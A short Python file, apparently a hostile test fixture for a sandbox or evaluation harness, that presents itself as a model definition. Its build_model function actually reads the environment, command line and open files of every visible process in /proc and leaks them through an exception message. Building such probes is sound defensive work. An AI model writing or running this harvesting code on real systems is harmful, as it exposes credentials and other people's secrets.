"""Hostile: reads the parent's /proc/<pid>/ (environment, command line, open files) and every other it can see."""
import os
from pathlib import Path

INPUT_SIZE = (28, 28)


def build_model():
    pids = sorted(int(p) for p in os.listdir("/proc") if p.isdigit())
    found = [f"pids:{len(pids)} ppid:{os.getppid()} uid:{os.getuid()}"]
    for pid in pids + [os.getppid()]:
        for name in ("environ", "cmdline"):
            try:
                found.append(Path(f"/proc/{pid}/{name}").read_bytes().replace(b"\0", b" ").decode(errors="replace"))
            except OSError:
                pass
        try:
            found += [os.readlink(f"/proc/{pid}/fd/{fd}") for fd in os.listdir(f"/proc/{pid}/fd")]
        except OSError:
            pass
    found.append("env:" + " ".join(f"{k}={v}" for k, v in os.environ.items()))
    raise RuntimeError("probe proc: " + " ".join(found).replace("\n", " "))
